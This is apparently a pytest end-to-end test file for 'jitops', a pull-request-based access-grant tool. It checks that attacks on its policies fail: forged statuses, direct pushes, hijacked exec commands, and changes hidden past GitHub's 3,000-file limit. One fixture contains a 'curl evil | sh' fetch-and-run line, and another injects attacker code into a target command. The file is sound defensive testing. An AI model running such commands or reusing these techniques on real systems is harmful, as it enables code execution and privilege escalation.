"""Attacks on the policies themselves (invariants 1 and 7): a policy change merged on a forged
status with fewer approvals than the PolicyChangeRule asks, pushed straight to the default
branch, carried inside an access request or loosening the rule that judges the same pull
request, hidden past GitHub's 3,000-file list, a broken CODEOWNERS, and an exec target's
command pointed at the attacker's own code to run it with the target's secret.

What the attacker can do: change policies/, CODEOWNERS and workflows on a branch or, with
protection off, on the default branch. What they cannot: a pull request is judged by the base
branch's policies; apply, sweep and reconcile use a policy state only once every change to it
landed through a pull request whose reviews satisfy the rule before it, so nothing is granted
under an unverified state and no target of one runs. The control: a policy change with its
approvals governs what follows.
"""

from __future__ import annotations

import json
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from jitops import evidence
from tests.e2e.apply_world import (
    World,
    apply,
    forge_status,
    grant,
    granted,
    status_row,
)
from tests.e2e.conftest import CLI
from tests.e2e.gate_world import GateWorld, comments_of, status_of

LOOSE = (
    "apiVersion: jitops/v1\nkind: Policy\nname: legacy\ntargets: [legacy]\n"
    "requesters: [{alice}]\nroles:\n  operator: {{max_duration: 8760h, auto_approve: true}}\n"
)


POLICY = "policies/legacy-policy.yaml"


def loosen(world: World, approvers: tuple[str, ...]) -> int:
    """alice's pull request making the operator role auto-approved for a year, merged on a
    forged status with ``approvers``' reviews."""
    number = world.open_pull("loosen", {POLICY: LOOSE.format(alice=world.login("alice"))})
    for person in approvers:
        world.server.hub.review(world.repo, number, user=world.login(person), event="APPROVE")
    forge_status(world, number)
    world.merge(number)
    return number


def ask_unreviewed(world: World, request_id: str) -> None:
    """A request under the loosened policy: no review at all (it says auto-approve)."""
    path, text = world.request(request_id)
    number = world.open_pull(request_id, {path: text})
    forge_status(world, number)
    world.merge(number)


@pytest.mark.attack(
    1, "loosen a role with fewer approvals than the PolicyChangeRule asks, on a forged status"
)
def test_a_policy_change_short_of_its_approvals_loosens_nothing(world: World, cli: CLI) -> None:
    policy_pr = loosen(world, approvers=("p1",))  # one of the two the rule asks for
    first = apply(world, cli, world.pull_base())
    assert first.code == 1  # loudly: the branch's policies are not verified
    assert "the branch's policies are not verified" in first.err
    assert f"pull request #{policy_pr} was not approved" in first.err
    ask_unreviewed(world, "loose-1")
    before = world.pull_base()
    result = apply(world, cli, before)
    assert result.code == 1, result.output
    assert "refused:" in result.out and "policies it would be judged by are not verified" in (
        result.out
    )
    assert world.legacy.held() == set()
    assert status_row(world, cli, "loose-1")["state"] == "refused"

    # the fix the message names: the missing approval, given after the merge, counts
    world.server.hub.review(world.repo, policy_pr, user=world.login("owner"), event="APPROVE")
    result = apply(world, cli, before)
    assert result.code == 0, result.output
    assert world.legacy.held() == {f"{world.login('alice')}/operator"}
    verified = evidence.read_all(world.base)[0]
    assert any(n.pull_request == policy_pr and n.verdict == "allowed" for n in verified.values())


def test_a_policy_change_with_its_approvals_governs_what_follows(world: World, cli: CLI) -> None:
    loosen(world, approvers=("p1", "owner"))
    assert apply(world, cli, world.pull_base()).code == 0
    ask_unreviewed(world, "loose-2")
    result = apply(world, cli, world.pull_base())
    assert result.code == 0, result.output
    assert world.legacy.held() == {f"{world.login('alice')}/operator"}


@pytest.mark.attack(1, "push a policy change straight to main")
def test_a_policy_pushed_straight_to_the_branch_is_distrusted_until_reverted(
    world: World, cli: CLI
) -> None:
    hub = world.server.hub
    original = (world.base / POLICY).read_text()
    loose = LOOSE.format(alice=world.login("alice"))
    hub.push(world.repo, "main", {POLICY: loose}, author=world.login("alice"))
    ask_unreviewed(world, "loose-3")
    result = apply(world, cli, world.pull_base())
    assert result.code == 1 and "without a merged pull request" in result.output
    assert world.legacy.held() == set()

    # back to the verified state: what that state approves is granted again
    hub.push(world.repo, "main", {POLICY: original}, author=world.login("alice"))
    grant(world, "after-revert")
    result = apply(world, cli, world.pull_base())
    assert "granted:" in result.out and "after-revert" in result.out, result.output
    assert world.legacy.held() == {f"{world.login('alice')}/operator"}


def hijack_target(world: World) -> Path:
    """A writer's direct push pointing the exec target's command at their own code; the file
    that code writes when it runs (it would hold the target's secret)."""
    marker = world.base.parent / "stolen"
    target = "policies/legacy.yaml"
    text = (world.base / target).read_text()
    evil = [sys.executable, "-c", f"import os; open({str(marker)!r}, 'w').write('x')"]
    hijacked = "\n".join(
        f"  command: {json.dumps(evil)}" if line.startswith("  command:") else line
        for line in text.splitlines()
    )
    world.server.hub.push(
        world.repo, "main", {target: hijacked + "\n"}, author=world.login("alice")
    )
    return marker


@pytest.mark.attack(
    7, "change a target's exec command without approval to run it with the target's secret"
)
def test_a_target_changed_without_approval_never_runs_with_its_secret(
    world: World, cli: CLI
) -> None:
    path = granted(world, cli, "tgt-1")
    marker = hijack_target(world)
    world.merge(world.open_pull("drop-tgt-1", {path: None}))  # a removal: apply revokes
    result = apply(world, cli, world.pull_base())
    assert result.code == 1 and "the branch's policies are not verified" in result.err
    assert "revoked:" in result.out  # by the target of the verified state
    assert not marker.exists()
    assert world.legacy.held() == set()


@pytest.mark.attack(7, "have the sweep or reconcile run an unapproved target command")
def test_the_sweep_and_reconcile_never_run_a_target_changed_without_approval(
    world: World, cli: CLI, monkeypatch: pytest.MonkeyPatch
) -> None:

    granted(world, cli, "tgt-2")
    marker = hijack_target(world)
    world.pull_base()
    reconcile = cli("reconcile", "--repo", str(world.base), "--target", "legacy")
    assert reconcile.code == 1 and "the branch's policies are not verified" in reconcile.err
    later = f"{datetime.now(UTC) + timedelta(hours=3):%Y-%m-%dT%H:%M:%SZ}"
    sweep = cli("sweep", "--repo", str(world.base), "--now", later, "--no-pr")
    assert sweep.code == 1 and "the branch's policies are not verified" in sweep.err
    assert "revoked: @" in sweep.out  # through the verified state's target
    assert world.legacy.held() == set()
    assert not marker.exists()
    # the control: a person's own run without a token acts on what is checked out
    monkeypatch.delenv("GITHUB_TOKEN")
    cli("reconcile", "--repo", str(world.base), "--target", "legacy")
    assert marker.exists()


@pytest.mark.attack(1, "carry a request inside a policy change")
def test_a_mixed_pull_request_is_refused(gate: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    number = gate.open_request(
        "mix-1", extra={"policies/sandbox-db.yaml": "apiVersion: jitops/v1\n"}
    )
    for person in ("bob", "p1", "p2"):
        gate.review(number, person)
    result = check(number)
    assert result.code == 1
    assert "may not carry access requests" in status_of(gate, number)[1]


@pytest.mark.attack(1, "loosen the policy in the same pull request that asks")
def test_a_policy_change_in_the_pr_does_not_judge_the_pr(gate: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    # The PR loosens the policy (auto-approve readwrite) and asks nothing else: it is judged by
    # the base branch's PolicyChangeRule, which needs two platform approvals.
    policy = (gate.base / "policies" / "sandbox-db.yaml").read_text()
    loosened = policy.replace(
        "readwrite:\n    max_duration: 4h",
        "readwrite:\n    max_duration: 4h\n    auto_approve: true",
    )
    number = gate.open_pull("loosen", {"policies/sandbox-db.yaml": loosened}, by="alice")
    gate.review(number, "p1")
    assert check(number).code == 1
    assert f"needs 1 more approval from {gate.team('platform')}" in status_of(gate, number)[1]
    gate.review(number, "p2")
    assert check(number).code == 0


@pytest.mark.attack(1, "break CODEOWNERS so GitHub asks no code owner")
def test_codeowners_errors_fail_closed(gate: GateWorld, check) -> None:  # type: ignore[no-untyped-def]
    hub = gate.server.hub
    hub.push(
        gate.repo,
        "main",
        {".github/CODEOWNERS": "* @nobody-at-all/missing-team\n"},
        author=gate.login("p1"),
    )
    number = gate.open_request("co-err-1", role="readonly", ticket=None)
    result = check(number)
    assert result.code == 1
    assert "CODEOWNERS errors" in result.out


@pytest.mark.attack(1, "hide a policy change past GitHub's 3,000-file list")
def test_a_policy_change_hidden_past_githubs_3000_files_is_refused(
    gate: GateWorld,
    check,  # type: ignore[no-untyped-def]
) -> None:
    """Attack (invariant 1, policy changes need the PolicyChangeRule): GitHub lists at most
    3,000 files of a pull request. 3,000 removals of request files come first, a change to a
    workflow sorts after them and is never listed: the pull request would read as "only
    removals" and pass at once. It is refused, saying why; 2,999 removals still pass."""
    from jitops.github import MAX_LISTED_FILES

    stale = {f"requests/old/r/old-{i:04}.yaml": "x: 1\n" for i in range(MAX_LISTED_FILES)}
    gate.server.hub.push(gate.repo, "main", stale, author=gate.login("p1"))
    gate.refresh_base()
    gone: dict[str, str | None] = dict.fromkeys(stale)
    hidden = gate.open_pull(
        "cleanup", {**gone, "zz-hooks/run.sh": "curl evil | sh\n"}, by="mallory"
    )
    result = check(hidden)
    assert result.code == 1
    state, description = status_of(gate, hidden)
    assert state == "failure" and "at most 3,000 files" in description
    assert "split it" in comments_of(gate, hidden)[0]
    fewer = gate.open_pull("fewer", dict.fromkeys(list(stale)[1:]), by="mallory")
    assert check(fewer).code == 0  # 2,999 removals, all listed
